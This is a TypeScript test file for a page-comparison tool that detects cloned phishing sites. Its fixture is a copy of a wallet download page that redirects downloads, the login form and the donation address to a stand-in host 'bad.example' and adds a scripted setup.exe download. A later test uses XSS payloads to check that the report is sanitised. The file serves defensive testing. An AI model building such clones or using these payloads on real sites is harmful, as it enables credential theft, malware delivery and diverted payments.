import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { readerOfPage } from '#extract';
import { comparePages } from '#pipeline';
import { copyReport } from '#publish';
import { openHome, start } from './cli-fixture.ts';

const words = (from: number, to: number): string =>
  Array.from({ length: to - from }, (_, at) => `word${(from + at) * 7919} and`).join(' ');
const ORIGINAL = `<!doctype html><html><head><title>Wallet</title>
<link rel="canonical" href="https://wallet.example/"><link rel="stylesheet" href="/css/main.css?v=2">
<script src="/js/app.js"></script></head><body>
<div class="hero"><h1>Get the wallet</h1><p>${words(0, 60)}</p>
<p><a href="https://code.example/wallet/wallet.dmg">macOS</a> <a href="https://code.example/wallet/wallet.exe">Windows</a></p></div>
<p>${words(60, 90)}</p><img src="/img/logo.png"><p>Donate to 1BoatSLRHtKNngkdXEeobR76b53LETtpyT</p>
<form action="/login"><input name="user"></form></body></html>`;
const COPY = ORIGINAL.replaceAll(/(href|src)="\//g, '$1="https://wallet.example/')
  .replace('https://code.example/wallet/wallet.exe', 'https://bad.example/wallet.exe')
  .replace('<form action="/login">', '<form action="https://bad.example/take">')
  .replace('1BoatSLRHtKNngkdXEeobR76b53LETtpyT', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa')
  .replace(
    '<p>word0',
    '<a class="b" id="dl" href="javascript:void(0)" onclick="getWallet()">Download <b>now</b></a><script>function getWallet(){location.href="/files/" + "setup.exe"}</script><p>word0',
  );

const page = (html: string, url?: string) => readerOfPage(Buffer.from(html), { url });

describe('comparing pages', () => {
  const comparison = comparePages(
    page(ORIGINAL, 'https://wallet.example/'),
    page(COPY, 'https://wa11et.example.net/'),
  );

  it('says which copies which, and why', () => {
    assert.equal(comparison.verdict.level, 'HIGH');
    assert.equal(comparison.copy, 'b');
    const turned = comparePages(
      page(COPY, 'https://wa11et.example.net/'),
      page(ORIGINAL, 'https://wallet.example/'),
    );
    assert.equal(turned.copy, 'a');
    assert.deepEqual(turned.differences, comparison.differences);
    assert.ok(comparison.shares.text > 0.9 && comparison.shares.resources === 1);
    assert.deepEqual(comparison.hotlinks.map(({ url }) => url).sort(), [
      'https://wallet.example/css/main.css?v=2',
      'https://wallet.example/img/logo.png',
      'https://wallet.example/js/app.js',
    ]);
  });

  it('names the added control, the code it runs, and where that leads', () => {
    const button = comparison.differences.find(({ handler }) => handler === 'getWallet()');
    assert.equal(button?.kind, 'added');
    assert.equal(button.text, 'Download now');
    assert.equal(button.leadsTo?.[0]?.url, 'https://wa11et.example.net/files/setup.exe');
    assert.equal(button.copyExcerpt?.slice(0, 19), '<a class="b" id="dl');
    assert.equal(button.original, undefined);
  });

  it('tells changed downloads, forms and wallets, with places on both sides', () => {
    const changed = comparison.differences.filter(({ kind }) => kind === 'changed');
    const what = new Map(changed.map((each) => [each.what, each]));
    assert.equal(what.get('download')?.to, 'https://bad.example/wallet.exe');
    assert.equal(what.get('form')?.to, 'https://bad.example/take');
    assert.equal(what.get('wallet')?.to, '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa');
    for (const each of changed) assert.ok(each.copy !== undefined && each.original !== undefined, each.says);
    assert.equal(changed.length, 4, changed.map(({ says }) => says).join('\n')); // and the text around the wallet
  });

  it('finds nothing in two pages that have nothing in common', () => {
    const other = comparePages(
      page(ORIGINAL, 'https://wallet.example/'),
      page(`<html><body><div>${words(500, 600)}</div></body></html>`, 'https://news.example.net/'),
    );
    assert.equal(other.verdict.isCopy, false);
    assert.equal(other.verdict.level, 'NONE');
  });

  it('takes any page, and reports it without letting it act', () => {
    const hostile = `<title>"><script>alert(1)</script>\u202e</title><a onclick="&quot;><img src=x onerror=alert(2)>" href="javascript:alert(3)//">x<!--`;
    const compared = comparePages(page(hostile), page(`${hostile}<form action='"><svg onload=alert(4)>'>`));
    const report = copyReport(compared, page(hostile), page(hostile));
    assert.doesNotMatch(report, /<script|<img|<svg|<a\b|<form|href=|\u202e/);
    assert.match(report, /default-src 'none'/);
    for (const html of ['', '<', '\u0000', '<a '.repeat(2_000), '<p>x'.repeat(50_000)])
      comparePages(page(html), page(`${html}<p>y`));
  });

  it('is a command that needs no store for files', async () => {
    using home = openHome();
    const [a, b, html] = ['a.html', 'b.html', 'report.html'].map((name) => join(home.path, name)) as [
      string,
      string,
      string,
    ]; // three names
    await writeFile(a, ORIGINAL);
    await writeFile(b, COPY);
    const run = await start(home.environment, 'compare', a, b, '--json', '--html', html).ended;
    assert.equal(run.code, 0, run.stderr);
    const said = run.json<{ copy: string; verdict: { isCopy: boolean } }>();
    assert.deepEqual([said.copy, said.verdict.isCopy], ['b', true]);
    assert.match(await readFile(html, 'utf8'), /getWallet\(\)/);
  });
});
